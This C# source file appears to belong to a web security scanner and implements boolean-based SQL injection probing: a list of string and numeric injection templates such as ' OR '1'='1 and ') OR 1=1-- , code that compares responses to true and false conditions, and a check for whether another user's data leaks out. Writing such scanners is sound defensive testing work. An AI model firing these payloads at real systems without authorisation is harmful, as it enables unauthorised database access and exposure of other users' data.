using System.Globalization;
using Assay.Probe.Answers;
using Assay.Probe.Places;
using Assay.Probe.Transport;

namespace Assay.Probe.Probes.Database;

/// <summary>A true condition and a false one bring different rows.</summary>
internal static class SqlByCondition
{
    // {0} a value, {1}={2} the condition; the value is one that matches nothing where the condition alone shall decide.
    private static readonly (string Text, bool Matching)[] StringForms =
    [
        ("{0}' OR '{1}'='{2}", false),
        ("{0}' OR {1}={2}-- ", false),
        ("{0}') OR ('{1}'='{2}", false),
        ("{0}') OR {1}={2}-- ", false),
        ("{0}' AND '{1}'='{2}", true),
        ("{0}\" OR \"{1}\"=\"{2}", false),
    ];

    private static readonly (string Text, bool Matching)[] NumberForms =
    [
        ("{0} OR {1}={2}", false),
        ("{0}) OR ({1}={2}", false),
        ("{0} AND {1}={2}", true),
    ];

    public static async Task<SqlProof?> TryAsync(Foothold target)
    {
        foreach (var (form, matching) in target.IsNumeric ? [.. NumberForms, .. StringForms] : StringForms)
        {
            var value = matching ? target.Value : NumberForms.Contains((form, matching)) ? "0" : $"zq{target.Scene.Mark}";
            string Fill(int left, int right) => string.Format(CultureInfo.InvariantCulture, form, value, left, right);
            // With other numbers each time, so that it is the truth and not the digits that matters.
            var yes = await Differential.ProveAsync(target.SendAsync, n => Fill(7 + n, 7 + n), n => Fill(7 + n, 8 + n), (a, b) => a.IsSuccess && !b.IsServerError);
            if (yes is null)
            {
                continue;
            }

            var no = await target.SendAsync(Fill(7, 8));
            var (some, none) = (Items.In(yes.Answer.Json).Count, Items.In(no.Answer.Json).Count);
            var effect = some != none ? $"{some:N0} items, the false one {none:N0}" : $"status {yes.Answer.Status}, the false one {no.Answer.Status}{(yes.Answer.Status == no.Answer.Status ? " with another content" : "")}";
            return new SqlProof(yes, $"the true condition brings {effect}, four times with different numbers{await ForeignRowsAsync(target, yes.Answer)}");
        }

        return null;
    }

    // What the answer says about another user, the caller was not meant to see.
    private static async Task<string> ForeignRowsAsync(Foothold target, Answer answer)
    {
        if (target.Scene.Bob is not { } bob || target.Subject.Caller is not { } caller)
        {
            return "";
        }

        var bobs = (await target.Scene.Privacy.NamesAsync(bob)).Except(await target.Scene.Privacy.NamesAsync(caller), StringComparer.OrdinalIgnoreCase);
        var control = target.Control.Answer.Text;
        return bobs.Any(n => n.Length > 2 && answer.Text.Contains(n, StringComparison.Ordinal) && !control.Contains(n, StringComparison.Ordinal))
            ? $"; among them is what belongs to `{bob.Name}`"
            : "";
    }
}
